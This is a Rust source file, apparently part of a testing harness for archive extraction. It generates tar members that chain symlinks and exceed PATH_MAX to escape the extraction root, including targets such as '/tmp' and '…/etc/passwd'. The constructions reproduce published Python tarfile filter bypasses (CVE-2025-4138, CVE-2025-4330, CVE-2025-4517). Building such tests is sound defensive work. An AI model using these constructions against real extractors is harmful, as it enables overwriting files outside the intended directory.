//! Link chains: links made before the links they traverse, and a chain whose expanded form
//! passes `PATH_MAX` while every name the archive writes fits.

use super::member::{choose, distinct, one_in, shuffle, AttackKind, AttackMember, Seq};
use super::target::{aim, aim_relative, components, decoy_in_dir, dir_depth, join, ups};
use crate::jail::view_layout::{VIEW_ROOT, VIEW_ROOT_DEPTH};
use snapconf_tarbytes::Rng;

/// Names a chain's links get; some nested, so each hop's `..` count depends on its depth.
const CHAIN_NAMES: [&str; 8] = ["a", "b", "c", "e", "g", "p/b", "p/c", "q/r/e"];

/// `link-chain`: `a -> b`, `b -> c`, `c -> /tmp`, then `a/decoy`. Each link alone names a
/// member inside the root; only their composition leaves it (the Python `tarfile` filter
/// bypasses of 2025, CVE-2025-4138 and CVE-2025-4330, checked each link on its own). Most
/// often each link is made before the one it names (dangling when made); sometimes in
/// reverse or shuffled. One time in four the chain ends in the prior's `l -> ../decoy`
/// and the file is written to the chain's first name.
pub(super) fn link_chain(rng: &mut Rng, seq: &mut Seq) {
    let n = 2 + rng.below(4);
    let names = distinct(rng, &CHAIN_NAMES, n);
    let into_prior = one_in(rng, 4);
    let (dir, tail) = decoy_in_dir(rng);
    let mut links = Vec::with_capacity(n);
    for (i, name) in names.iter().enumerate() {
        let depth = dir_depth(name);
        let target = match names.get(i + 1) {
            Some(next) => join(ups(depth), next),
            None if into_prior => join(ups(depth), "l"),
            None => aim(rng, depth, dir),
        };
        links.push((*name, target));
    }
    match rng.below(4) {
        0 => links.reverse(),
        1 => shuffle(rng, &mut links),
        _ => {}
    }
    for (name, target) in &links {
        seq.symlink(name, target);
    }
    if into_prior {
        seq.file(names[0]);
    } else {
        seq.file(join(names[0], &tail));
    }
}

/// The members of [`path_max_chain`] up to its link back to the root: the deep directory,
/// the short links `s` (named `link`) and `s/s/…/lll…`, whose name it returns (a top-level
/// name that the kernel resolves to the root and `os.path.realpath` gives up on).
pub(super) fn chain_to_root(rng: &mut Rng, seq: &mut Seq, link: &str) -> String {
    let component = "d".repeat(240 + rng.below(11));
    let real = |k: usize| vec![component.as_str(); k].join("/");
    let group = if one_in(rng, 2) { 4 } else { 8 };
    seq.dir(format!("{}/", real(LEVELS))).mode(0o777);
    for g in 0..LEVELS / group {
        let name = if g == 0 {
            link.to_string()
        } else {
            format!("{}/{link}", real(g * group))
        };
        seq.symlink(name, real(group));
    }
    let short = vec![link; LEVELS / group].join("/");
    let long = format!("{short}/{}", "l".repeat(254));
    seq.symlink(&long, ups(LEVELS));
    long
}

/// The link classes as Python's 2025 filter bypasses combine them with the PATH_MAX chain
/// (CVE-2025-4138, CVE-2025-4330, CVE-2024-12718): `members` (one class's draw) with the
/// chain of [`chain_to_root`] first and every link target that leaves the root (absolute,
/// or climbing past it) spelled through the chain instead, `…/lll…/../../../../etc/passwd`,
/// so that a check that resolves the target with `realpath` reads it as inside. Members
/// with no such target are returned as they are, with no chain.
pub(super) fn through_chain(rng: &mut Rng, members: Vec<AttackMember>) -> Vec<AttackMember> {
    let root = components(VIEW_ROOT);
    // The jail path a target reaches, when outside the root: from the link's directory
    // (symlinks) or the root (hardlinks).
    let outside = |m: &AttackMember| -> Option<(usize, Vec<String>)> {
        let target = std::str::from_utf8(&m.link).ok()?;
        let base = match m.kind {
            AttackKind::Symlink => dir_depth(&m.name),
            AttackKind::Hardlink => 0,
            _ => return None,
        };
        // Only a link that sits inside the root: a name of its own outside is another class.
        let name = std::str::from_utf8(&m.name).ok()?;
        if name.starts_with('/') || components(name).contains(&"..") {
            return None;
        }
        let mut at: Vec<String> = if target.starts_with('/') {
            Vec::new()
        } else {
            let dirs = components(name);
            let dirs = &dirs[..base.min(dirs.len())];
            root.iter().chain(dirs).map(|c| c.to_string()).collect()
        };
        for c in components(target) {
            match c {
                "." => {}
                ".." => {
                    at.pop();
                }
                c => at.push(c.to_string()),
            }
        }
        let inside = at.len() >= root.len() && at.iter().zip(&root).all(|(a, b)| a == b);
        (!inside).then_some((base, at))
    };
    if !members.iter().any(|m| outside(m).is_some()) {
        return members;
    }
    let mut seq = Seq::default();
    // A name no class uses, so the chain's links replace none of the class's.
    let long = chain_to_root(rng, &mut seq, "pm");
    let mut out = seq.members;
    for mut m in members {
        if let Some((base, at)) = outside(&m) {
            let from_root = join(ups(VIEW_ROOT_DEPTH), at.join("/"));
            m.link = join(join(ups(base), &long), from_root);
        }
        out.push(m);
    }
    out
}

/// Levels of real directories in [`path_max_chain`].
const LEVELS: usize = 16;

/// `path-max-chain` (the shape of Python CVE-2025-4517): a directory 16 levels deep whose
/// components are 240–250 bytes, short links `s` that each stand for 4 (or 8) of those
/// levels, and a link `s/s/s/s/lll…` (254 `l`) at the bottom pointing back to the root.
/// Its expanded path is at least 16 × 241 + 254 = 4110 bytes, past `PATH_MAX` (4096), so
/// `os.path.realpath(strict=False)` stops resolving there and reads the rest lexically.
/// Then `escape -> s/s/s/s/lll…/../..` leaves the root while a lexical reading stays
/// inside, and a hardlink and a file (or a file under `escape`) write the decoy; or, with
/// no `escape` link, the members that write the decoy spell `s/s/s/s/lll…/../..` in their
/// own name or hardlink target. Every name
/// and target the archive writes is at most 4015 bytes, so it passes a 4096-byte name
/// limit; each member after the directory is 1 of at most 10.
pub(super) fn path_max_chain(rng: &mut Rng, seq: &mut Seq) {
    let long = chain_to_root(rng, seq, "s");
    let (dir, tail) = decoy_in_dir(rng);
    // `long` resolves to the root, so the rest is spelled from depth 0.
    let aimed = join(&long, aim_relative(rng, 0, dir));
    // Through a link to that place (as the published exploit does), or spelled out in the
    // members that write there, one member fewer.
    let escape = if one_in(rng, 2) {
        let escape = choose(rng, &["escape", "out", "x"]);
        seq.symlink(escape, &aimed);
        escape.as_bytes().to_vec()
    } else {
        aimed
    };
    let through = join(&escape, &tail);
    match rng.below(3) {
        0 => {
            seq.hardlink("flag", &through);
            seq.file("flag");
        }
        1 => {
            seq.file(&through);
        }
        _ => {
            seq.hardlink("flag", &through);
            seq.file("flag");
            seq.file(join(&escape, "snapconf-new"));
        }
    }
}
